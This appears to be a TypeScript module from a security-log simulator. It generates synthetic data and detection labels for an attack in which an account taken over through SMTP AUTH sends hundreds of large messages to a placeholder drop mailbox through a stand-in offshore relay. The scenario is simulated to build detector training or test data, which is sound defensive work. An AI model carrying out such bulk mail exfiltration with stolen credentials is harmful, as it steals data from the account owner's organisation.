// Exfiltration as mail: an account taken over (logged into over SMTP AUTH from
// a hosting network) suddenly sends hundreds of large messages to one external
// mailbox through an external relay.
import { type Activity, at, entities, type Label, MINUTE_MS, type Sim } from "../context.js";
import { networkByCidr } from "../networks.js";
import type { Account } from "../platform.js";
import type { RemoteMx } from "../services.js";
import { addressPool, attackLabel, StageTrace } from "./common.js";

const DROP_RELAY: RemoteMx = {
  name: "relay.offshore-mail.example",
  ip: "203.0.113.25",
  domain: "offshore-mail.example",
};
const NET = "193.32.0.0/16";

export function smtpExfil(sim: Sim, id = "smtp-exfil-1", scenario = "smtp-exfil", fraction = 0.65): Activity {
  const rng = sim.rng.fork(`attack/${id}`);
  const accounts = sim.platform.accounts;
  const sender = accounts[rng.int(accounts.length)] as Account;
  const ip = addressPool(rng, [networkByCidr(NET)], 1)[0] ?? "193.32.7.7";
  const count = 150 + rng.int(150);
  const start = at(sim, fraction) + 11 * MINUTE_MS;
  const plan: Array<{ t: number; size: number }> = [];
  let t = start;
  for (let i = 0; i < count; i++) {
    t += 20_000 + rng.int(50_000);
    plan.push({ t, size: 5_000_000 + rng.int(15_000_000) });
  }
  const trace = new StageTrace();
  const hosts = new Set<string>();
  let bytes = 0;
  let next = 0;
  return {
    name: id,
    hour(_t0, t1) {
      while (next < plan.length && (plan[next]?.t ?? Number.POSITIVE_INFINITY) < t1) {
        const s = plan[next++];
        if (s === undefined) break;
        const r = sim.svc.submitMessage(
          s.t,
          sender.user,
          ip,
          [{ address: "archive.drop@offshore-mail.example", local: undefined, mx: DROP_RELAY }],
          s.size,
        );
        hosts.add(r.host.name);
        bytes += s.size;
        trace.hit(s.t, sender.user, ip);
      }
    },
    labels(): Label[] {
      if (trace.empty) return [];
      const e = entities({
        accounts: [sender.user],
        source_ips: [ip],
        source_networks: [NET],
        hosts,
        destination_ips: [DROP_RELAY.ip],
        destination_networks: ["203.0.113.0/24"],
      });
      return [
        attackLabel(
          id,
          scenario,
          "stolen_credential_use",
          trace.first,
          trace.first + 1000,
          "SMTP AUTH into the account from a hosting network",
          ["postfix"],
          entities({ accounts: [sender.user], source_ips: [ip], source_networks: [NET], hosts }),
        ),
        attackLabel(
          id,
          scenario,
          "exfiltration",
          trace.first,
          trace.last + 60_000,
          `${trace.count} large messages (${(bytes / 1e6).toFixed(0)} MB) from one sender to one external mailbox via an external relay`,
          ["postfix"],
          e,
          { records: trace.count, bytes },
        ),
      ];
    },
  };
}
